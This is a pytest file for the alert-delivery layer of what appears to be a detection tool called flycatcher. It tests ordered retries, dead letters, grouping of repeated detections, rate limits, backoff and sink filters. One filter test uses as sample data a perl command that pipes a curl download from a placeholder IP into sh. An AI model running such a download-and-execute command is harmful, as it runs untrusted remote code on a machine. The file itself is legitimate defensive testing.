"""A lane delivers at least once, in order, and says what became of the rest."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from msgspec import structs

from flycatcher.destination import Destination
from flycatcher.sinks.delivery import backoff
from flycatcher.sinks.delivery.filters import wants
from flycatcher.sinks.message import Unavailable, unpacked
from tests.delivery.events import detection, event, notice
from tests.delivery.lanes import Recorder, drained, lane_of

if TYPE_CHECKING:
    from pathlib import Path


def test_what_waits_is_delivered_in_order_and_leaves_the_queue(tmp_path: Path) -> None:
    transport = Recorder(most=4)
    lane, spool = lane_of(tmp_path, [event(number) for number in range(10)], transport)
    drained(lane)
    assert transport.sent == [[event(n).uid for n in part] for part in (range(4), range(4, 8), range(8, 10))]
    assert transport.closed
    [standing] = spool.standings()
    assert (standing.waiting, standing.delivered, standing.failures) == (0, 10, 0)


def test_nothing_is_sent_before_what_failed(tmp_path: Path) -> None:
    transport = Recorder(Unavailable("busy"), ConnectionResetError(104, "reset"), most=2)
    lane, spool = lane_of(tmp_path, [event(number) for number in range(3)], transport)
    drained(lane)
    first = [event(0).uid, event(1).uid]
    assert transport.sent == [first, first, first, [event(2).uid]]
    [standing] = spool.standings()
    assert (standing.delivered, standing.failures, standing.error) == (3, 2, "[Errno 104] reset")


def test_what_a_receiver_refuses_is_a_dead_letter_with_its_reason(tmp_path: Path) -> None:
    transport = Recorder({1: "HTTP 400: no such field"}, most=3)
    lane, spool = lane_of(tmp_path, [event(number) for number in range(4)], transport)
    drained(lane)
    assert [message.event.uid for message in transport.messages] == [event(n).uid for n in (0, 2, 3)]
    [(name, _, _, reason, body)] = spool.dead()
    assert (name, reason, unpacked(body).uid) == ("one", "HTTP 400: no such field", event(1).uid)
    assert spool.standings()[0].refused == 1


def test_a_batch_that_is_refused_as_a_whole_is_sent_one_by_one(tmp_path: Path) -> None:
    refused = {0: "HTTP 413", 1: "HTTP 413"}
    transport = Recorder(refused, {}, {0: "HTTP 413: this one"}, most=2)
    lane, spool = lane_of(tmp_path, [event(0), event(1)], transport)
    drained(lane)
    assert transport.sent == [[event(0).uid, event(1).uid], [event(0).uid], [event(1).uid]]
    assert [row[3] for row in spool.dead()] == ["HTTP 413: this one"]


def test_a_message_that_a_transport_stumbles_over_does_not_stop_those_behind_it(tmp_path: Path) -> None:
    transport = Recorder(KeyError("x"), {}, KeyError("x"), {}, most=3)
    lane, spool = lane_of(tmp_path, [event(number) for number in range(4)], transport)
    drained(lane)
    assert [message.event.uid for message in transport.messages] == [event(n).uid for n in (0, 2, 3)]
    assert [(row[3], unpacked(row[4]).uid) for row in spool.dead()] == [("cannot be sent: KeyError: 'x'", event(1).uid)]


def test_a_template_that_fails_on_one_event_costs_that_event_alone(tmp_path: Path) -> None:
    pytest.importorskip("jinja2")
    transport = Recorder()
    broken = "{{ title }} {{ record.place.upper() }}"
    lane, spool = lane_of(tmp_path, [event(1), notice()], transport, template=broken)
    drained(lane)
    assert [message.body for message in transport.messages] == [b"loss: 3 records were lost in the ring RING"]
    assert [row[3].partition(":")[0] for row in spool.dead()] == ["cannot be rendered"]


def test_the_same_detection_from_the_same_place_is_one_alert_with_a_count(tmp_path: Path) -> None:
    start = 1_796_000_000.0
    same = [detection(time=start + number) for number in range(380)]
    other = [detection(time=start + 5, ci__job="other"), notice()]
    transport = Recorder()
    lane, spool = lane_of(tmp_path, [*same, *other], transport, group=600, batch=50)
    drained(lane)
    first, *rest = transport.messages
    assert first.event.uid == same[0].uid
    assert [(each.event.kind, each.event.group) for each in rest[:2]] == [("detection", None), ("loss", None)]
    [grouped] = rest[2:]
    assert grouped.event.uid == f"{same[-1].uid}-380"
    assert grouped.event.group is not None
    assert (grouped.event.group.count, grouped.event.group.first, grouped.event.group.last) == (
        380, "2026-11-30T00:53:20.000000Z", "2026-11-30T00:59:39.000000Z",
    )  # fmt: skip
    assert spool.standings()[0].grouped == 379


def test_a_window_that_is_over_is_told_of_before_the_next_one_begins(tmp_path: Path) -> None:
    times = [0, 1, 2, 20, 21]
    events = [detection(time=1_796_000_000.0 + each) for each in times]
    transport = Recorder()
    lane, _ = lane_of(tmp_path, events, transport, group=10)
    drained(lane)
    counts = [
        (each.event.time - 1_796_000_000, each.event.group.count if each.event.group else 1)
        for each in transport.messages
    ]
    assert counts == [(0, 1), (2, 3), (20, 1), (21, 2)]


def test_an_open_group_survives_a_lane_that_dies(tmp_path: Path) -> None:
    events = [detection(time=1_796_000_000.0 + number) for number in range(3)]
    transport = Recorder()
    lane, spool = lane_of(tmp_path, events, transport, group=600)
    assert lane.turn()
    spool.close()
    after = Recorder()
    again, _ = lane_of(tmp_path, [], after, group=600)
    drained(again)
    assert [message.event.uid for message in transport.messages] == [events[0].uid]
    assert [message.event.group.count for message in after.messages if message.event.group] == [3]


def test_a_rate_bound_delays_and_loses_nothing(tmp_path: Path) -> None:
    transport = Recorder()
    lane, _ = lane_of(tmp_path, [event(number) for number in range(5)], transport, rate=2)
    pauses: list[float] = []
    lane.stop.wait = lambda seconds=0.0: pauses.append(seconds) or setattr(lane, "_allowance", 1.0)  # type: ignore[func-returns-value]
    drained(lane)
    assert [len(batch) for batch in transport.sent] == [2, 1, 1, 1]
    assert len(pauses) == 3
    assert all(20 < pause <= 30 for pause in pauses)


@pytest.mark.parametrize(
    ("fields", "wanted"),
    [
        ({}, True),
        ({"level": "high"}, True),
        ({"level": "critical"}, False),
        ({"interpreters": ("py*", "perl")}, True),
        ({"interpreters": ("ruby",)}, False),
        ({"vectors": ("stdin",)}, False),
        ({"vectors": ("arg*",)}, True),
        ({"capabilities": ("network.*",)}, True),
        ({"capabilities": ("crypto.*",)}, False),
        ({"environments": ("production",)}, False),
        ({"environments": ("ci",)}, True),
        ({"events": ("loss", "gap")}, False),
        ({"events": ("detection",)}, True),
    ],
)
def test_a_sink_gets_the_detections_that_it_wants(fields: dict[str, object], wanted: bool) -> None:
    found = detection("perl", "-e", 'system("curl -s http://198.51.100.7/x | sh")', environment="ci")
    found = structs.replace(found, record=found.record | {"risk": {"score": 60, "level": "high"}})
    assert wants(Destination(name="one", to="x:", **fields), found) is wanted  # type: ignore[arg-type]


def test_notices_reach_every_sink_unless_it_names_its_events() -> None:
    assert wants(Destination(name="one", to="x:", level="critical", interpreters=("perl",)), notice())
    assert not wants(Destination(name="one", to="x:", events=("detection",)), notice())


def test_pauses_double_with_jitter_up_to_a_minute_and_obey_the_receiver() -> None:
    for failures, longest in [(1, 0.5), (2, 1.0), (5, 8.0), (8, 60.0), (500, 60.0)]:
        assert all(longest / 2 <= backoff.pause(failures) <= longest for _ in range(50))
    assert backoff.pause(1, 120.0) == 120.0
    assert backoff.pause(1, 10**9) == 3600.0
    assert backoff.pause(8, 1.0) >= 30.0
